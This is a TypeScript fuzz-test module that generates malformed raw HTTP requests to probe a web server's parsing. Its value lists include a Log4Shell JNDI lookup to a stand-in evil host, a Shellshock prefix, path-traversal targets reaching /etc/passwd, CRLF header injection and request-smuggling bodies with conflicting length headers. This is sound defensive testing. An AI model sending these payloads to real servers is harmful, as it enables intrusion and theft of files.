import fc from 'fast-check'
import type { Request } from './requests.ts'
import { hostileText } from './values.ts'

// Raw requests that no client library would send. `{address}` is replaced by an IP address.

const CRLF = '\r\n'
const HEAD = `host: bina.example${CRLF}x-forwarded-for: {address}${CRLF}`
const OVER = `connection: close${CRLF}${CRLF}`

type Raw = { name: string; text: string; answers: number }

const target = fc.constantFrom(
  '/',
  '/api/listings?limit=1',
  '/healthz',
  '/auth/login',
  '/api/account',
  '/nothing',
  '/listing/1',
  '/robots.txt',
)

const HEADER_NAMES = [
  'x-request-id',
  'x-bina-inner',
  'host',
  'origin',
  'referer',
  'cookie',
  'authorization',
  'x-forwarded-for',
  'x-forwarded-proto',
  'x-forwarded-host',
  'forwarded',
  'x-real-ip',
  'accept',
  'accept-language',
  'accept-encoding',
  'accept-charset',
  'range',
  'if-range',
  'if-none-match',
  'if-modified-since',
  'user-agent',
  'sec-fetch-site',
  'content-type',
  'content-encoding',
  'x-http-method-override',
  'x-original-url',
  'x-rewrite-url',
  'te',
  'trailer',
  'via',
  'max-forwards',
  'upgrade',
  'http2-settings',
  'keep-alive',
  'expect',
  'from',
  'date',
  'warning',
  'x-bina-app',
  'x-bina-device',
  'stripe-signature',
  'x-telegram-bot-api-secret-token',
]

/** Valid and invalid header values, in latin1. */
const headerValue = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\t',
    '*',
    '0',
    '-1',
    'null',
    'a, b, c',
    ',,,',
    ';',
    '=',
    '"',
    '"unclosed',
    'é'.repeat(32),
    'é'.repeat(8),
    'a'.repeat(32),
    'abcdefgh',
    'x'.repeat(1000),
    'x'.repeat(7000),
    'x'.repeat(20_000),
    '\xff\xfe\xfd',
    '\x01\x02',
    'a\0b',
    'a\x7fb',
    '127.0.0.1',
    '::1',
    '999.999.999.999',
    'unknown, 1.2.3.4',
    'fe80::1%eth0',
    'http://evil.example',
    'null',
    'https://bina.example',
    'bytes=0-',
    'bytes=-1',
    'bytes=9999999999999999999-',
    'gzip, br;q=0',
    'en;q=2',
    'ru-RU,ka;q=0.9,*;q=0',
    'q=;q=;q',
    'Bearer',
    'Bearer ',
    'Bearer a b c',
    'Basic Og==',
    'Bearer bina_x',
    `Bearer ${'a.'.repeat(3000)}`,
    'accessToken=;accessToken=a',
    'accessToken',
    '=; =',
    `a=${'b'.repeat(4000)}`,
    '100-continue',
    'nothing-known',
    'websocket',
    'h2c',
    'trailers, deflate;q=0.5',
    'Thu, 01 Jan 1970 00:00:00 GMT',
    'W/"a',
    '<script>fuzz()</script>',
    '${jndi:ldap://evil.example/a}',
    '() { :;}; echo',
  ),
  fc
    .uint8Array({ maxLength: 60 })
    .map((bytes) =>
      Buffer.from(bytes.filter((byte) => byte !== 10 && byte !== 13)).toString('latin1'),
    ),
)
/** Without `expect`, which changes whether there is a response before the body. */
const header = fc
  .tuple(fc.constantFrom(...HEADER_NAMES), headerValue)
  .map(([name, value]) => `${name}: ${value}`)

/** 32 two-byte characters, next to a valid request id. */
const crafted = fc
  .constantFrom('x-request-id: abcdefgh', 'x-request-id: abcdefghijkl')
  .map((id) => [id, `x-bina-inner: ${'\xe9'.repeat(32)}`])
const headers: fc.Arbitrary<Raw> = fc
  .tuple(
    fc.constantFrom('GET', 'GET', 'POST', 'HEAD', 'OPTIONS'),
    target,
    fc.oneof(
      { weight: 30, arbitrary: fc.array(header, { minLength: 1, maxLength: 6 }) },
      { weight: 1, arbitrary: crafted },
    ),
  )
  .map(([method, to, lines]) => ({
    name: 'headers',
    text: [
      `${method} ${to} HTTP/1.1${CRLF}${HEAD}`,
      ...lines.map((line) => line + CRLF),
      OVER,
    ].join(''),
    answers: 1,
  }))

const TARGETS = [
  '*',
  'http://bina.example/',
  'http://bina.example/api/listings',
  'https://bina.example:443/',
  'HTTP://bina.example',
  'http://evil.example/',
  'http://user:pass@bina.example/',
  'ftp://bina.example/',
  'file:///etc/passwd',
  'http://[::1',
  'http://',
  'http:',
  '//',
  '//evil.example/',
  '///',
  '/\\evil.example',
  '\\',
  '/..',
  '/../..',
  '/./.',
  '/%2e%2e/',
  '/..%2f..%2fetc%2fpasswd',
  '/assets/../../package.json',
  '/assets/..%2f..%2fpackage.json',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/photos/../config',
  '/%',
  '/%0',
  '/%zz',
  '/%00',
  '/%ff',
  '/%c0%af',
  '/%E0%A4%A',
  '/a%0d%0ax-fuzz-injected:%201',
  '/?',
  '?',
  '#',
  '/#',
  '/?#',
  '/;/',
  '/:',
  '/@',
  '/*',
  '/api/*',
  '/api//listings',
  '/api/listings/',
  '/api/listings/1/',
  '/api/listings/%31',
  '/listing/1#x',
  '/é',
  '/\xff\xfe',
  '/<script>fuzz()</script>',
  'bina.example:443',
  'bina.example',
  'a',
  `/${'a'.repeat(2000)}`,
  `/${'a/'.repeat(3000)}`,
  `/${'a'.repeat(17_000)}`,
  `/?${'a'.repeat(15_000)}`,
  `/api/listings?${'rooms=1&'.repeat(1500)}`,
]
const METHODS = [
  'GET',
  'GET',
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'CONNECT',
  'PROPFIND',
  'MKCOL',
  'LOCK',
  'REPORT',
  'M-SEARCH',
  'PURGE',
  'SUBSCRIBE',
  'SEARCH',
  'QUERY',
  'get',
  'Get',
  'FOO',
  'G\xc9T',
  '',
  'GET\t',
  'X'.repeat(300),
]
const VERSIONS = [
  'HTTP/1.1',
  'HTTP/1.1',
  'HTTP/1.1',
  'HTTP/1.0',
  'HTTP/0.9',
  'HTTP/2.0',
  'HTTP/9.9',
  'http/1.1',
  'HTTP/1.1 x',
  'HTTP/1.',
  'HTTP/',
  '',
]
const targets: fc.Arbitrary<Raw> = fc
  .tuple(
    fc.constantFrom(...METHODS),
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...TARGETS) },
      {
        weight: 1,
        arbitrary: hostileText.map(
          (text) =>
            `/${Buffer.from(text.slice(0, 3000))
              .toString('latin1')
              .replace(/[\r\n ]/g, '')}`,
        ),
      },
    ),
    fc.constantFrom(...VERSIONS),
  )
  .map(([method, to, version]) => ({
    name: 'target',
    text: `${method} ${to} ${version}${CRLF}${HEAD}${OVER}`,
    answers: 1,
  }))

const JSON_TYPE = `content-type: application/json${CRLF}`
const post = (framing: string, body: string, answers: number, more = ''): Raw => ({
  name: 'framing',
  text: `POST /auth/login HTTP/1.1${CRLF}${HEAD}${JSON_TYPE}${more}${framing}${body}`,
  answers,
})
const end = (lines: string): string => `${lines}${CRLF}${OVER}`
const LOGIN = '{"email":"a@example.com","password":"x"}'
const chunk = (text: string): string => `${text.length.toString(16)}${CRLF}${text}${CRLF}`

/** Contradicting bodies and lengths. `answers` is 0 for incomplete requests. */
const framing: fc.Arbitrary<Raw> = fc.constantFrom<Raw>(
  post(end('content-length: 0'), '', 1),
  post(end(`content-length: ${LOGIN.length}`), LOGIN, 1),
  post(end('content-length: 5'), LOGIN, 1),
  post(end('content-length: 500'), LOGIN, 0),
  post(end('content-length: -1'), LOGIN, 1),
  post(end('content-length: +5'), LOGIN, 1),
  post(end('content-length: 0x10'), LOGIN, 1),
  post(end('content-length: 5 5'), LOGIN, 1),
  post(end('content-length: 99999999999999999999'), LOGIN, 1),
  post(end('content-length: 4.0'), LOGIN, 1),
  post(end('content-length:'), LOGIN, 1),
  post(end(`content-length: 40${CRLF}content-length: 40`), LOGIN, 1),
  post(end(`content-length: 5${CRLF}content-length: 40`), LOGIN, 1),
  post(end('content-length: 40, 40'), LOGIN, 1),
  post(end('content-length: 1000000000'), LOGIN, 1),
  post(end('content-length: 65537'), 'x'.repeat(65_537), 1),
  post(end('transfer-encoding: chunked'), `${chunk(LOGIN)}0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: chunked'), `${[...LOGIN].map(chunk).join('')}0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: chunked'), chunk(LOGIN), 0),
  post(
    end('transfer-encoding: chunked'),
    `${chunk(LOGIN)}0${CRLF}x-trailer: 1${CRLF}content-length: 3${CRLF}${CRLF}`,
    1,
  ),
  post(end('transfer-encoding: chunked'), `zz${CRLF}${LOGIN}${CRLF}0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: chunked'), `-1${CRLF}${LOGIN}${CRLF}`, 1),
  post(end('transfer-encoding: chunked'), `ffffffffffffffffff${CRLF}${LOGIN}`, 1),
  post(
    end('transfer-encoding: chunked'),
    `5;name=value;"quoted"${CRLF}hello${CRLF}0${CRLF}${CRLF}`,
    1,
  ),
  post(
    end('transfer-encoding: chunked'),
    `5;${'x'.repeat(20_000)}${CRLF}hello${CRLF}0${CRLF}${CRLF}`,
    1,
  ),
  post(end('transfer-encoding: chunked'), `5\nhello\n0\n\n`, 1),
  post(end('transfer-encoding: chunked'), `5${CRLF}hello!!${CRLF}0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: Chunked'), `0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: xchunked'), `0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: identity'), LOGIN, 1),
  post(end('transfer-encoding: gzip, chunked'), `0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: chunked, gzip'), `0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding: chunked, chunked'), `0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding:\x0bchunked'), `0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding : chunked'), `0${CRLF}${CRLF}`, 1),
  post(end('transfer-encoding'), `0${CRLF}${CRLF}`, 1),
  post(end(` transfer-encoding: chunked`), `0${CRLF}${CRLF}`, 1),
  post(end(`x: y${CRLF} folded: z`), '', 1),
  post(
    end(`transfer-encoding: chunked${CRLF}content-length: 5`),
    `0${CRLF}${CRLF}GET /healthz HTTP/1.1${CRLF}${HEAD}${CRLF}`,
    1,
  ),
  post(end(`content-length: 6${CRLF}transfer-encoding: chunked`), `0${CRLF}${CRLF}G`, 1),
  post(end(`transfer-encoding: chunked${CRLF}transfer-encoding: identity`), `0${CRLF}${CRLF}`, 1),
  post(end(`content-length: ${LOGIN.length}`), LOGIN, 1, `expect: 100-continue${CRLF}`),
  post(end('content-length: 40'), '', 0, `expect: 100-continue${CRLF}`),
  post(end(`content-length: ${LOGIN.length}`), LOGIN, 1, `expect: something${CRLF}`),
  post(
    end('content-length: 0'),
    '',
    1,
    `upgrade: websocket${CRLF}connection: upgrade${CRLF}sec-websocket-key: x${CRLF}`,
  ),
  post(
    end('content-length: 0'),
    '',
    1,
    `upgrade: h2c${CRLF}connection: upgrade, http2-settings${CRLF}http2-settings: AAA${CRLF}`,
  ),
  {
    name: 'framing',
    text: `GET / HTTP/1.1${CRLF}${HEAD}content-length: 5${CRLF}${OVER}hello`,
    answers: 1,
  },
  { name: 'framing', text: `GET / HTTP/1.0${CRLF}${CRLF}`, answers: 1 },
  {
    name: 'framing',
    text: `GET / HTTP/1.1${CRLF}x-forwarded-for: {address}${CRLF}${OVER}`,
    answers: 1,
  },
  { name: 'framing', text: `GET / HTTP/1.1${CRLF}host: a${CRLF}host: b${CRLF}${OVER}`, answers: 1 },
  { name: 'framing', text: `GET / HTTP/1.1\nhost: a\nconnection: close\n\n`, answers: 1 },
  { name: 'framing', text: `GET / HTTP/1.1\rhost: a\r\r`, answers: 1 },
  { name: 'framing', text: `${CRLF}${CRLF}GET / HTTP/1.1${CRLF}${HEAD}${OVER}`, answers: 1 },
  {
    name: 'framing',
    text: `GET / HTTP/1.1${CRLF}${HEAD}${`x-many: 1${CRLF}`.repeat(1500)}${OVER}`,
    answers: 1,
  },
  {
    name: 'framing',
    text: `GET / HTTP/1.1${CRLF}${HEAD}${`cookie: a=b${CRLF}`.repeat(300)}${OVER}`,
    answers: 1,
  },
  { name: 'framing', text: `GET / HTTP/1.1${CRLF}${HEAD}x`, answers: 0 },
  { name: 'framing', text: 'GET', answers: 0 },
  { name: 'framing', text: `GET / HTTP/1.1${CRLF}${HEAD}: empty name${CRLF}${OVER}`, answers: 1 },
  { name: 'framing', text: `GET / HTTP/1.1${CRLF}${HEAD}bad name: 1${CRLF}${OVER}`, answers: 1 },
  { name: 'framing', text: `GET / HTTP/1.1${CRLF}${HEAD}\xe9: 1${CRLF}${OVER}`, answers: 1 },
  { name: 'framing', text: `GET / HTTP/1.1${CRLF}${HEAD}x\0y: 1${CRLF}${OVER}`, answers: 1 },
  { name: 'other protocol', text: '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', answers: 1 },
  { name: 'other protocol', text: `PRI * HTTP/2.0${CRLF}${CRLF}SM${CRLF}${CRLF}`, answers: 1 },
  { name: 'other protocol', text: `SSH-2.0-OpenSSH_9.6${CRLF}`, answers: 1 },
  { name: 'other protocol', text: '\0'.repeat(100), answers: 1 },
  {
    name: 'other protocol',
    text: `PROXY TCP4 1.2.3.4 5.6.7.8 1 2${CRLF}GET / HTTP/1.1${CRLF}${CRLF}`,
    answers: 1,
  },
)

const GET_PERSISTENT = (path: string): string => `GET ${path} HTTP/1.1${CRLF}${HEAD}${CRLF}`
/** Several requests on one connection, some of which close it. */
const pipelined: fc.Arbitrary<Raw> = fc
  .tuple(fc.array(target, { minLength: 1, maxLength: 8 }), target, fc.boolean())
  .map(([paths, last, broken]) => ({
    name: 'pipelined',
    text:
      paths.map(GET_PERSISTENT).join('') +
      (broken ? `GET \0 HTTP/1.1${CRLF}${CRLF}` : `GET ${last} HTTP/1.1${CRLF}${HEAD}${OVER}`),
    answers: 1,
  }))

const garbage: fc.Arbitrary<Raw> = fc
  .uint8Array({ minLength: 20, maxLength: 400 })
  .map((bytes) => ({
    name: 'garbage',
    text: `${Buffer.from(bytes).toString('latin1')}${CRLF}${CRLF}`,
    answers: 0,
  }))

export const rawRequest: fc.Arbitrary<Request> = fc
  .oneof(
    { weight: 5, arbitrary: headers },
    { weight: 5, arbitrary: targets },
    { weight: 4, arbitrary: framing },
    { weight: 2, arbitrary: pipelined },
    { weight: 1, arbitrary: garbage },
  )
  .map(({ name, text, answers }) => ({
    name: `raw ${name}`,
    who: 'visitor',
    line: '',
    headers: [],
    body: null,
    raw: { bytes: Buffer.from(text, 'latin1'), answers },
  }))
